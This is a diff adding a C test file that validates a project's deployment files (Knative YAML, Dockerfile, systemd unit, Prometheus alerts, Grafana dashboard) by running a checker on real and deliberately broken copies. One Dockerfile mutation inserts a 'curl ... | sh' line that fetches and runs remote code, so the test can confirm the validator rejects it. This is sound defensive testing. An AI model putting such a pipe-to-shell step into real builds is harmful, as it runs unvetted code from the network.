@@ -1,0 +1,284 @@
+/* test_deploy.c — issue 8's deployment files, checked in `make test`: the Knative manifests
+ * (every YAML parses; GPU limit, autoscaling annotations, concurrency, timeout vs drain, probes,
+ * data directory on a claimed volume, a scale-to-zero and a warm variant), the Dockerfile
+ * (multi-stage on CUDA bases, make CUDA=1, apt only, thaw serve), the systemd unit, the
+ * Prometheus rules (`promtool check rules` and `promtool test rules` with
+ * tests/deploy/alerts_test.yml) and the Grafana dashboard, whose every PromQL expression (and the
+ * rules') must name only metrics and labels that a real `thaw serve` exports after echo was
+ * deployed and called. The checks live in tests/deploy/check_deploy.py (python3 + python3-yaml);
+ * each is also run on a broken copy, which it must refuse. */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/wait.h>
+#include "tests/e2e/e2e.h"
+#include "tests/t.h"
+
+static const char *src;
+static char scrape_path[600];
+
+/* sh runs cmd through /bin/sh; returns its exit status (-1 when it did not exit normally) */
+static int sh(const char *cmd)
+{
+	int st = system(cmd);
+	if (st == -1 || !WIFEXITED(st))
+		return -1;
+	return WEXITSTATUS(st);
+}
+
+/* check runs check_deploy.py with args (relative paths are under the source tree); 0 ok, 1
+ * problems found, 2 usage or no python3-yaml. Its findings are printed unless quiet (used for
+ * the broken copies, whose findings are expected). */
+static int check_as(const char *args, int quiet)
+{
+	char cmd[4096];
+	snprintf(cmd, sizeof cmd, "cd '%s' && python3 tests/deploy/check_deploy.py %s%s", src, args,
+		 quiet ? " >/dev/null 2>&1" : "");
+	return sh(cmd);
+}
+
+static int check(const char *args)
+{
+	return check_as(args, 0);
+}
+
+/* refused: the check must find problems (exit 1) in a broken copy */
+static int refused(const char *args)
+{
+	return check_as(args, 1) == 1;
+}
+
+static int have_yaml(void)
+{
+	return sh("python3 -c 'import yaml' 2>/dev/null") == 0;
+}
+
+/* mutate writes sed_expr applied to the source file rel into the temp dir as name; returns the
+ * new path (static buffer per call slot) */
+static const char *mutate(const char *rel, const char *name, const char *sed_expr)
+{
+	static char out[4][700];
+	static int slot;
+	char *p = out[slot++ % 4];
+	snprintf(p, sizeof out[0], "%s/%s", t_tmpdir(), name);
+	char cmd[4096];
+	snprintf(cmd, sizeof cmd, "sed %s '%s/%s' > '%s'", sed_expr, src, rel, p);
+	if (sh(cmd) != 0)
+		return "/nonexistent";
+	/* the mutation must have changed something, or the negative check proves nothing */
+	snprintf(cmd, sizeof cmd, "cmp -s '%s/%s' '%s'", src, rel, p);
+	T_CHECK(sh(cmd) == 1);
+	return p;
+}
+
+static void test_yaml_parses(void)
+{
+	if (!have_yaml())
+		T_SKIP("python3-yaml not installed (scripts/install-deps.sh)");
+	char cmd[2048];
+	snprintf(cmd, sizeof cmd, "cd '%s' && test -n \"$(find deploy -name '*.yaml' -o -name '*.yml')\" "
+		 "&& python3 tests/deploy/check_deploy.py yaml $(find deploy -name '*.yaml' -o -name '*.yml')",
+		 src);
+	T_EQ_INT(sh(cmd), 0);
+	char args[1024];
+	const char *b = mutate("deploy/knative/service.yaml", "broken.yaml", "-e 's/^spec:/spec: [/'");
+	snprintf(args, sizeof args, "yaml '%s'", b);
+	T_CHECK(refused(args));
+}
+
+static void test_knative(void)
+{
+	if (!have_yaml())
+		T_SKIP("python3-yaml not installed (scripts/install-deps.sh)");
+	T_EQ_INT(check("knative deploy/knative/service.yaml deploy/knative/service-warm.yaml"), 0);
+	static const char *const bad[] = {
+		"-e 's/min-scale: \"0\"/min-scale: 0/'",                 /* unquoted annotation */
+		"-e 's#path: /readyz#path: /healthz#'",                   /* readiness on liveness */
+		"-e 's/timeoutSeconds: 300/timeoutSeconds: 20/'",         /* grace below the drain */
+		"-e 's/target: \"8\"/target: \"16\"/'",                   /* target != containerConcurrency */
+		"-e 's#nvidia.com/gpu: 1#nvidia.com/gpu: 2#'",            /* not one GPU */
+		"-e 's#^            - /var/lib/thaw#            - /srv/thaw#'", /* data dir off the volume */
+		"-e 's/claimName: thaw-data/claimName: other/'",          /* claim not defined */
+		"-e 's/- serve/- --port\\n            - \"9000\"\\n            - serve/'",
+	};
+	char args[1024];
+	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+		const char *m = mutate("deploy/knative/service.yaml", "service.yaml", bad[i]);
+		snprintf(args, sizeof args, "knative '%s' deploy/knative/service-warm.yaml", m);
+		int ok = refused(args);
+		if (!ok)
+			fprintf(stderr, "  mutation %zu (%s) not refused\n", i, bad[i]);
+		T_CHECK(ok);
+	}
+	/* both variants are required */
+	T_CHECK(refused("knative deploy/knative/service.yaml"));
+}
+
+static void test_dockerfile(void)
+{
+	T_EQ_INT(check("dockerfile deploy/docker/Dockerfile"), 0);
+	static const char *const bad[] = {
+		"-e 's/ CUDA=1//'",                                       /* CPU build */
+		"-e 's/\"serve\", //'",                                   /* does not run serve */
+		"-e 's/-runtime-/-devel-/'",                              /* fat final stage */
+		"-e '/^FROM.*runtime/,$d'",                               /* single stage */
+		"-e 's/libjansson-dev //'",                               /* a dependency missing */
+		"-e 's#^COPY . .#RUN curl -sL https://example.com/x | sh\\nCOPY . .#'",
+	};
+	char args[1024];
+	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+		const char *m = mutate("deploy/docker/Dockerfile", "Dockerfile", bad[i]);
+		snprintf(args, sizeof args, "dockerfile '%s'", m);
+		int ok = refused(args);
+		if (!ok)
+			fprintf(stderr, "  mutation %zu (%s) not refused\n", i, bad[i]);
+		T_CHECK(ok);
+	}
+}
+
+static void test_systemd(void)
+{
+	T_EQ_INT(check("systemd deploy/systemd/thaw.service"), 0);
+	char args[1024];
+	const char *m = mutate("deploy/systemd/thaw.service", "thaw.service",
+			       "-e 's/TimeoutStopSec=.*/TimeoutStopSec=20/'");
+	snprintf(args, sizeof args, "systemd '%s'", m);
+	T_CHECK(refused(args));
+}
+
+static void test_alerts_promtool(void)
+{
+	if (sh("command -v promtool >/dev/null 2>&1") != 0)
+		T_SKIP("promtool not installed (Debian prometheus, scripts/install-deps.sh)");
+	char cmd[2048];
+	snprintf(cmd, sizeof cmd, "cd '%s' && for f in $(find deploy -path '*prometheus*' -name '*.yml'); do "
+		 "promtool check rules \"$f\" >/dev/null || exit 1; done", src);
+	T_EQ_INT(sh(cmd), 0);
+	/* the rules fire on series over their thresholds and stay quiet below them */
+	snprintf(cmd, sizeof cmd, "cd '%s/tests/deploy' && promtool test rules alerts_test.yml >/dev/null",
+		 src);
+	T_EQ_INT(sh(cmd), 0);
+	/* promtool itself refuses a broken expression */
+	const char *m = mutate("deploy/prometheus/alerts.yml", "alerts.yml",
+			       "-e 's/> 0.01/> > 0.01/'");
+	snprintf(cmd, sizeof cmd, "promtool check rules '%s' >/dev/null 2>&1", m);
+	T_CHECK(sh(cmd) != 0);
+}
+
+static void test_alerts_coverage(void)
+{
+	if (!have_yaml())
+		T_SKIP("python3-yaml not installed (scripts/install-deps.sh)");
+	T_EQ_INT(check("alerts deploy/prometheus/alerts.yml"), 0);
+	static const char *const bad[] = {
+		"-e 's/severity: critical/severity: page/'",
+		"-e 's/> 0.9$/> 0.95/'",
+		"-e 's/state=\"failed\"/state=\"cancelled\"/g'",
+	};
+	char args[1024];
+	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+		const char *m = mutate("deploy/prometheus/alerts.yml", "alerts.yml", bad[i]);
+		snprintf(args, sizeof args, "alerts '%s'", m);
+		T_CHECK(refused(args));
+	}
+}
+
+static void test_dashboard(void)
+{
+	if (!have_yaml())
+		T_SKIP("python3-yaml not installed (scripts/install-deps.sh)");
+	char cmd[1024];
+	snprintf(cmd, sizeof cmd, "python3 -m json.tool '%s/deploy/grafana/dashboard.json' >/dev/null", src);
+	T_EQ_INT(sh(cmd), 0);
+	T_EQ_INT(check("dashboard deploy/grafana/dashboard.json"), 0);
+	char args[1024];
+	const char *m = mutate("deploy/grafana/dashboard.json", "dashboard.json",
+			       "-e 's/thaw_cold_starts_total/thaw_cold_start_total/'");
+	snprintf(args, sizeof args, "dashboard '%s'", m);
+	T_CHECK(refused(args));
+}
+
+/* scrape a real daemon: deploy and call echo so the per-function families have series */
+static int scrape_live(void)
+{
+	e2e_server s;
+	const char *args[] = {"--no-access-log", NULL};
+	if (e2e_start(&s, args, NULL) != 0)
+		return -1;
+	int ok = 1;
+	e2e_resp r;
+	const char *put = "PUT /v1/functions/echo HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
+			  "Content-Length: 15\r\n\r\n{\"kind\":\"echo\"}";
+	if (e2e_request(&s, put, &r) != 0)
+		ok = 0;
+	else {
+		T_CHECK(r.status == 201 || r.status == 200);
+		e2e_resp_free(&r);
+	}
+	const char *inv = "POST /v1/functions/echo/invoke HTTP/1.1\r\nHost: t\r\n"
+			  "Content-Type: application/json\r\nContent-Length: 7\r\n\r\n{\"a\":1}";
+	if (ok && e2e_request(&s, inv, &r) == 0) {
+		T_EQ_INT(r.status, 200);
+		e2e_resp_free(&r);
+	} else
+		ok = 0;
+	if (ok && e2e_request(&s, "GET /metrics HTTP/1.1\r\nHost: t\r\n\r\n", &r) == 0) {
+		T_EQ_INT(r.status, 200);
+		T_CHECK(strstr(r.body, "# TYPE thaw_invocations_total counter") != NULL);
+		T_CHECK(strstr(r.body, "thaw_device_memory_bytes{") != NULL);
+		FILE *f = fopen(scrape_path, "w");
+		if (f) {
+			fwrite(r.body, 1, r.body_len, f);
+			fclose(f);
+		} else
+			ok = 0;
+		e2e_resp_free(&r);
+	} else
+		ok = 0;
+	T_EQ_INT(e2e_stop(&s, 15, 10), 0);
+	return ok ? 0 : -1;
+}
+
+static void test_promql_names_exported(void)
+{
+	if (!have_yaml())
+		T_SKIP("python3-yaml not installed (scripts/install-deps.sh)");
+	snprintf(scrape_path, sizeof scrape_path, "%s/metrics.txt", t_tmpdir());
+	if (scrape_live() != 0) {
+		T_CHECK(!"scraping a live thaw serve failed");
+		return;
+	}
+	char args[2048];
+	snprintf(args, sizeof args, "promql '%s' runtime deploy/grafana/dashboard.json "
+		 "deploy/prometheus/alerts.yml", scrape_path);
+	T_EQ_INT(check(args), 0);
+	static const char *const bad[] = {
+		"-e 's/thaw_lane_busy_ratio/thaw_lane_busy/'",                      /* unknown metric */
+		"-e 's/thaw_queue_duration_seconds_bucket/thaw_queue_duration_seconds/'", /* bare histogram */
+		"-e 's/sum by (state) (thaw_jobs)/sum by (status) (thaw_jobs)/'",   /* unknown label */
+		"-e 's/thaw_function_state{function/thaw_function_state{fn/'",      /* unknown label */
+	};
+	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+		const char *m = mutate("deploy/grafana/dashboard.json", "dashboard.json", bad[i]);
+		snprintf(args, sizeof args, "promql '%s' runtime '%s'", scrape_path, m);
+		int ok = refused(args);
+		if (!ok)
+			fprintf(stderr, "  mutation %zu (%s) not refused\n", i, bad[i]);
+		T_CHECK(ok);
+	}
+}
+
+void t_main(void)
+{
+	src = getenv("THAW_SRC");
+	if (!src)
+		src = ".";
+	T_RUN(test_yaml_parses);
+	T_RUN(test_knative);
+	T_RUN(test_dockerfile);
+	T_RUN(test_systemd);
+	T_RUN(test_alerts_promtool);
+	T_RUN(test_alerts_coverage);
+	T_RUN(test_dashboard);
+	T_RUN(test_promql_names_exported);
+}
